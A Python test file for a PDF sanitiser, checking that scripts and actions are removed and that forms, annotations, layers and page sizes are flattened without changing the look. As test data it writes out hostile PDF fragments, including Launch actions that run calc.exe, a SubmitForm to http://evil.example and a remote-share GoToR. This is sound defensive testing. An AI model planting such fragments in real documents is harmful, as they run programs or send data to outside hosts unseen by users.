"""What is taken loses everything but what is seen of it; what is seen stays as it was."""

import subprocess
from pathlib import Path

import pypdfium2
import pytest
from PIL import Image

from signatures.contents import Typed
from signatures.drawing import Size, draw_page
from signatures.hands import HANDS
from signatures.pdf.checking import Flattened, PageSize, check_pdf
from tests.signatures.making import file_of
from tests.signatures.pdf import documents
from tests.signatures.pdf.documents import HELLO, RED_BOX, SCRIPT
from tests.signatures.pdf.looking import Ink, ink, is_same, names, picture, picture_of_original, require_clean
from tests.signatures.pdf.raw import raw_pdf, stream

# Where the annotation and the field of `documents` are on a picture of a page of 595 × 842 points.
PLACE = (100, 112, 300, 142)
FACE = "/AP << /N 21 0 R >>"
LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << {} >> >>"

HARMFUL = {
    "script at opening": (f"/OpenAction {SCRIPT}", "", Flattened.SCRIPTS),
    "script by name": (f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>", "", Flattened.SCRIPTS),
    "script at closing": (f"/AA << /WC {SCRIPT} >>", "", Flattened.SCRIPTS),
    "script of a page": ("", f"/AA << /O {SCRIPT} >>", Flattened.SCRIPTS),
    "launch at opening": ("/OpenAction << /S /Launch /F (calc.exe) >>", "", Flattened.ACTIONS),
    "launch of a page": ("", "/AA << /O << /S /Launch /Win << /F (calc.exe) >> >> >>", Flattened.ACTIONS),
    "submit at opening": ("/OpenAction << /S /SubmitForm /F (http://evil.example) >>", "", Flattened.ACTIONS),
    "other document": ("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>", "", Flattened.ACTIONS),
    "address": ("", f"/Annots [{LINK.format('/S /URI /URI (http://evil.example)')}]", Flattened.ACTIONS),
    "launch by a link": ("", f"/Annots [{LINK.format('/S /Launch /F (calc.exe)')}]", Flattened.ACTIONS),
    "next action": ("", f"/Annots [{LINK.format(f'/S /GoTo /D [0 /Fit] /Next {SCRIPT}')}]", Flattened.ACTIONS),
}


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize("case", HARMFUL)
def test_statement_156_scripts_and_actions_are_gone(case: str, *, packed: bool) -> None:
    catalog, page, flattened = HARMFUL[case]
    document = raw_pdf(RED_BOX, catalog=catalog, page=page).written()
    clean = check_pdf(documents.in_object_streams(document) if packed else document)
    require_clean(clean.data)
    assert flattened in clean.flattened
    assert b"evil" not in clean.data
    assert b"calc" not in clean.data


def test_nothing_is_said_to_be_flattened_in_a_document_of_pages() -> None:
    clean = check_pdf(documents.plain())
    require_clean(clean.data)
    assert clean.flattened == ()
    assert clean.pages == (PageSize(595, 842),)


def test_the_same_document_gives_the_same_bytes() -> None:
    assert check_pdf(documents.plain()).data == check_pdf(documents.plain()).data


def test_what_is_clean_stays_clean() -> None:
    once = check_pdf(documents.form_of_reportlab())
    twice = check_pdf(once.data)
    assert twice.pages == once.pages
    assert twice.flattened == ()
    assert is_same(picture(once.data), picture(twice.data))


@pytest.mark.parametrize(
    ("entries", "acroform", "face"),
    [
        ("", "", FACE),
        ("", "", ""),
        ("", "/NeedAppearances true", FACE),
        ("", "/NeedAppearances true", ""),
        ("/MK << /R 90 >>", "", FACE),
    ],
    ids=["face", "no face", "old face", "no face, asked for", "turned"],
)
def test_statement_156_what_a_field_shows_stays_and_the_form_is_gone(entries: str, acroform: str, face: str) -> None:
    document = documents.field(entries, acroform=acroform, face=face)
    clean = check_pdf(document)
    require_clean(clean.data)
    assert clean.flattened == (Flattened.FORM,)
    shown = picture(clean.data)
    assert ink(shown, PLACE)
    assert is_same(shown, picture_of_original(document))


def test_statement_156_a_form_as_libraries_make_it_looks_as_before() -> None:
    document = documents.form_of_reportlab()
    clean = check_pdf(document)
    require_clean(clean.data)
    with pypdfium2.PdfDocument(clean.data) as opened:
        text = opened[0].get_textpage().get_text_bounded()
    assert {"Camille", "two"} <= set(text.split())
    assert is_same(picture(clean.data), picture_of_original(document))


def test_what_is_seen_stays_above_the_middle_of_a_page_whose_size_is_inherited() -> None:
    """PDFium takes such a page for one of 612 × 792 points while it flattens it."""
    entries = "<< /Type /Annot /Subtype /Square /Rect [300 1500 700 1650] /C [1 0 0] /IC [1 0 0] /F 4 >>"
    document = raw_pdf(RED_BOX, page="/Annots [20 0 R]", box="[0 0 842 1684]", others={20: entries}).written()
    clean = check_pdf(document)
    assert clean.pages == (PageSize(842, 1684),)
    shown = picture(clean.data, width=842)
    assert ink(shown, (0, 0, 842, 400)) == (300, 34, 700, 184)


@pytest.mark.parametrize("flags", [2, 34, 32, 36])
def test_statement_156_what_is_seen_only_in_print_or_never_is_gone(flags: int) -> None:
    clean = check_pdf(documents.field(flags=flags))
    require_clean(clean.data)
    assert ink(picture(clean.data), PLACE) is None
    assert b"Shown" not in clean.data


def test_what_is_seen_only_on_screens_is_seen_by_all() -> None:
    assert ink(picture(check_pdf(documents.field(flags=0)).data), PLACE)


@pytest.mark.parametrize(
    "annotation",
    [
        "/Subtype /Square /C [1 0 0]",
        "/Subtype /Circle /C [1 0 0] /IC [0 1 0]",
        "/Subtype /Highlight /C [1 1 0] /QuadPoints [100 730 300 730 100 700 300 700]",
        "/Subtype /StrikeOut /C [1 0 0] /QuadPoints [100 730 300 730 100 700 300 700]",
        "/Subtype /Ink /C [1 0 0] /InkList [[110 710 200 725 290 705]]",
        "/Subtype /FreeText /Contents (Some words) /DA (/Helv 12 Tf 0 g)",
    ],
)
def test_statement_156_what_is_seen_of_annotations_stays(annotation: str) -> None:
    document = documents.annotated(annotation)
    clean = check_pdf(document)
    require_clean(clean.data)
    assert clean.flattened == (Flattened.ANNOTATIONS,)
    shown = picture(clean.data)
    assert ink(shown, PLACE)
    assert is_same(shown, picture_of_original(document))


def test_statement_156_what_a_link_shows_stays() -> None:
    document = documents.annotated(f"/Subtype /Link {FACE} /A << /S /URI /URI (http://evil.example) >>")
    clean = check_pdf(document)
    require_clean(clean.data)
    assert b"evil" not in clean.data
    assert ink(picture(clean.data), PLACE)
    assert is_same(picture(clean.data), picture_of_original(document))


@pytest.mark.parametrize("kind", ["/Subtype /Stamp", "/Subtype /Square /C [1 0 0]"])
def test_statement_156_a_flag_that_is_for_unknown_annotations_hides_no_other(kind: str) -> None:
    document = documents.annotated(f"{kind} {FACE}", flags=5)
    clean = check_pdf(document)
    assert ink(picture(clean.data), PLACE)
    assert is_same(picture(clean.data), picture_of_original(document))
    assert ink(picture(check_pdf(documents.annotated(f"/Subtype /Unknown {FACE}", flags=5)).data), PLACE) is None


@pytest.mark.parametrize(
    ("state", "faces", "is_shown"),
    [
        ("", "/Yes 21 0 R", False),
        ("/V /Yes", "/Yes 21 0 R", False),
        ("/AS /Off", "/Yes 21 0 R", False),
        ("/AS /Other", "/Yes 21 0 R", False),
        ("/AS /Yes", "/Yes 21 0 R", True),
        ("", "/Off 21 0 R", True),
        ("", "/A 20 0 R /Off 21 0 R", True),
    ],
)
@pytest.mark.parametrize("kind", ["/Subtype /Widget /FT /Btn /T (a)", "/Subtype /Stamp"])
def test_statement_156_of_several_faces_the_chosen_one_is_seen(
    kind: str, state: str, faces: str, *, is_shown: bool
) -> None:
    """PDFium flattens the first of them where none is chosen: a box nobody ticked would be ticked."""
    clean = check_pdf(documents.annotated(f"{kind} {state} /AP << /N << {faces} >> >>"))
    require_clean(clean.data)
    assert (ink(picture(clean.data), PLACE) is not None) is is_shown


@pytest.mark.parametrize("place", documents.PLACES_OF_LAYERS)
@pytest.mark.parametrize("membership", ["<< /Type /OCMD /OCGs [30 0 R] >>", "<< /OCGs 30 0 R /P /AllOn >>"])
def test_statement_156_annotations_in_layers_that_everybody_sees_stay(place: str, membership: str) -> None:
    document = documents.annotated_in_layer(place, membership)
    clean = check_pdf(document)
    require_clean(clean.data)
    assert is_same(picture(clean.data), picture_of_original(document))


def test_statement_156_layers_that_everybody_sees_become_the_page() -> None:
    document = documents.layered("/ON [30 0 R] /AS [<< /Event /View /Category [/View] /OCGs [30 0 R] >>]")
    clean = check_pdf(document)
    require_clean(clean.data)
    assert clean.flattened == (Flattened.LAYERS,)
    assert is_same(picture(clean.data), picture_of_original(document))


def test_statement_156_of_several_versions_only_what_the_last_one_shows_is_left() -> None:
    document = documents.changed_afterwards()
    assert document.startswith(documents.plain())
    clean = check_pdf(document)
    require_clean(clean.data)
    assert clean.flattened == (Flattened.EARLIER_VERSIONS,)
    with pypdfium2.PdfDocument(clean.data) as opened:
        assert "Hello" not in opened[0].get_textpage().get_text_bounded()
    assert is_same(picture(clean.data), picture_of_original(raw_pdf(RED_BOX).written()))


def test_statement_156_nothing_is_left_that_looks_otherwise_in_print() -> None:
    """Overprint, transfer functions, halftones, alternate images, pieces of other documents, PostScript."""
    image = b"\xff\x00\x00" * 4
    size = "/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    resources = "/ExtGState << /G 30 0 R >> /XObject << /I 31 0 R /P 33 0 R /R 34 0 R >> /Font << /F1 4 0 R >>"
    made = raw_pdf(
        b"/G gs q 200 0 0 50 100 600 cm /I Do Q /P Do /R Do",
        others={
            30: "<< /Type /ExtGState /OP true /op true /OPM 1 /TR 35 0 R /HT /Default /BG2 /Default /LW 3 >>",
            31: stream(image, f"{size} /Alternates [<< /Image 32 0 R /DefaultForPrinting true >>] /OPI << >>"),
            32: stream(b"\x00" * 12, size),
            33: stream(b"showpage", "/Type /XObject /Subtype /PS"),
            34: stream(b"", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.pdf) /Page 0 >>"),
            35: "<< /FunctionType 2 /Domain [0 1] /C0 [1] /C1 [0] /N 1 >>",
        },
    )
    made.objects[made.pages[0]] = (
        f"<< /Type /Page /Parent 2 0 R /Contents 3 0 R /Resources << {resources} >> /PieceInfo << /X 1 >> >>".encode()
    )
    clean = check_pdf(made.written())
    require_clean(clean.data)
    assert "/LW" in names(clean.data)
    assert ink(picture(clean.data)) == (100, 192, 300, 242)


GRAY_TURNED_AROUND = "/ColorSpace << /DefaultGray [/Separation /Turned /DeviceRGB 60 0 R] >>"
TURN_AROUND = stream(b"{1 exch sub dup dup}", "/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]")
WHITE_BOX = b"1 g 72 600 200 30 re f"


@pytest.mark.parametrize("where", ["page", "form"])
def test_statement_156_what_gray_means_is_the_same_for_every_reader(where: str, tmp_path: Path) -> None:
    """A default color space shows white as black, to readers that know it."""
    resources = f"/Resources << {GRAY_TURNED_AROUND} >>"
    form = stream(WHITE_BOX, f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {resources}")
    document = (
        raw_pdf(RED_BOX + b" " + WHITE_BOX, page=resources, others={60: TURN_AROUND})
        if where == "page"
        else raw_pdf(
            RED_BOX + b" /X Do", page="/Resources << /XObject << /X 61 0 R >> >>", others={60: TURN_AROUND, 61: form}
        )
    ).written()
    assert seen_by_poppler(document, tmp_path) != ink(picture_of_original(document))
    clean = check_pdf(document).data
    assert (
        seen_by_poppler(clean, tmp_path) == ink(picture(clean)) == ink(picture_of_original(raw_pdf(RED_BOX).written()))
    )


def seen_by_poppler(document: bytes, folder: Path) -> Ink | None:
    (folder / "page.pdf").write_bytes(document)
    subprocess.run(["pdftoppm", "-r", "72", "-png", "-singlefile", "page.pdf", "page"], cwd=folder, check=True)
    with Image.open(folder / "page.png") as page:
        return ink(page)


@pytest.mark.parametrize("coding", ["ASCII85Decode", "DCTDecode"])
def test_data_that_looks_like_the_end_of_a_file_is_hidden_from_readers_that_repair(coding: str) -> None:
    size = "/Width 40 /Height 10 /ColorSpace /DeviceGray"
    ground = b"!!!!!" * 60 + b"%%EOF" * 40
    if coding == "DCTDecode":
        hostile = b"endstream endobj 9 0 obj << /S /Launch >> endobj xref startxref 0 %%EOF"
        ground = file_of(Image.new("L", (40, 10), 0), "JPEG", comment=hostile)
    clean = check_pdf(documents.with_image(ground, f"{size} /Filter /{coding}"))
    require_clean(clean.data)
    assert b"Launch" not in clean.data
    assert ink(picture(clean.data)) == (100, 192, 300, 242)


@pytest.mark.parametrize(
    "name", ["Plain", "#E9t#E9", "#C3#A9t#C3#A9", "#E6#97#A5", "#CB#CE#CC#E5", "A#20B#28#29#2F#25#23", "#00#01#FF"]
)
def test_names_of_any_bytes_stay_what_they_are(name: str) -> None:
    """As the encodings of several countries have them; what is drawn calls fonts and states by them."""
    made = raw_pdf(f"/JS gs /{name} gs BT /{name} 24 Tf 100 700 Td (Hello) Tj ET".encode(), others={30: "<< /LW 1 >>"})
    made.objects[4] = f"<< /Type /Font /Subtype /Type1 /BaseFont /{name} /Encoding /WinAnsiEncoding >>".encode()
    made.objects[made.pages[0]] = (
        f"<< /Type /Page /Parent 2 0 R /Contents 3 0 R /Resources << /Font << /{name} 4 0 R >> "
        f"/ExtGState << /JS 30 0 R /{name} 30 0 R >> >> >>"
    ).encode()
    clean = check_pdf(made.written())
    assert clean.data.count(f"/{name} ".encode()) == 3
    assert ink(picture(clean.data), (100, 100, 300, 160))


def test_small_fractions_are_written_as_pdf_knows_them() -> None:
    made = raw_pdf(b"/G gs 0 0 1 RG 100 600 m 300 600 l S", others={30: "<< /LW 12 /FL 0.0000001 >>"})
    made.objects[made.pages[0]] = (
        b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R /Resources << /ExtGState << /G 30 0 R >> >> >>"
    )
    clean = check_pdf(made.written())
    assert b"E-" not in clean.data
    assert ink(picture(clean.data)) == (100, 236, 300, 248)


@pytest.mark.parametrize(
    ("box", "more", "size"),
    [
        ("[0 0 595 842]", "", PageSize(595, 842)),
        ("[0 0 595 842]", "/Rotate 90", PageSize(842, 595)),
        ("[0 0 595 842]", "/Rotate -90", PageSize(842, 595)),
        ("[0 0 595 842]", "/Rotate 540", PageSize(595, 842)),
        ("[-50 100 545 942]", "", PageSize(595, 842)),
        ("[595 842 0 0]", "", PageSize(595, 842)),
        ("[0 0 595 842]", "/CropBox [100 200 400 700]", PageSize(300, 500)),
        ("[0 0 595 842]", "/CropBox [100 200 400 700] /Rotate 270", PageSize(500, 300)),
        ("[0 0 595 842]", "/CropBox [300 400 900 1900]", PageSize(295, 442)),
        ("[0 0 595 842]", "/MediaBox [0 0 612 792] /TrimBox [9 9 99 99] /UserUnit 2", PageSize(612, 792)),
    ],
)
def test_pages_are_as_large_as_they_are_seen(box: str, more: str, size: PageSize) -> None:
    document = raw_pdf(RED_BOX + b" " + HELLO, box=box, page=more).written()
    clean = check_pdf(document)
    require_clean(clean.data)
    assert clean.pages == (size,)
    assert is_same(picture(clean.data, width=round(size.width)), picture_of_original(document))


def test_a_page_without_content_is_taken() -> None:
    made = raw_pdf()
    made.objects[made.pages[0]] = b"<< /Type /Page /Parent 2 0 R >>"
    assert ink(picture(check_pdf(made.written()).data)) is None


def test_content_in_pieces_is_put_together() -> None:
    made = raw_pdf(others={5: stream(b"100 600 200", compress=True), 6: stream(b"50 re f")})
    made.objects[3] = stream(b"1 0 0 rg")
    made.objects[made.pages[0]] = b"<< /Type /Page /Parent 2 0 R /Contents [3 0 R 5 0 R 6 0 R] >>"
    assert ink(picture(check_pdf(made.written()).data)) == (100, 192, 300, 242)


def test_what_pages_share_is_kept_once() -> None:
    document = documents.with_image(bytes(102_400), "/Width 256 /Height 400 /ColorSpace /DeviceGray", pages=20)
    data = check_pdf(document).data
    assert data.count(b"/Subtype /Image") == 1


def test_junk_around_a_whole_document_is_left_behind() -> None:
    clean = check_pdf(b"junk\r\n" * 10 + documents.plain() + b"junk " * 20)
    require_clean(clean.data)
    assert b"junk" not in clean.data


def test_pictures_look_as_before() -> None:
    document = documents.pictures_of_reportlab()
    assert is_same(picture(check_pdf(document).data), picture_of_original(document))


@pytest.mark.parametrize("hand", HANDS)
def test_fonts_that_a_document_brings_along_stay_and_its_text_can_be_searched(hand: str) -> None:
    document = draw_page(Typed("Étienne Œuvrard", hand), Size(595, 200))
    clean = check_pdf(document)
    assert b"/FontFile2" in clean.data
    with pypdfium2.PdfDocument(clean.data) as opened:
        assert opened[0].get_textpage().get_text_bounded().strip() == "Étienne Œuvrard"
    assert is_same(picture(clean.data), picture_of_original(document))
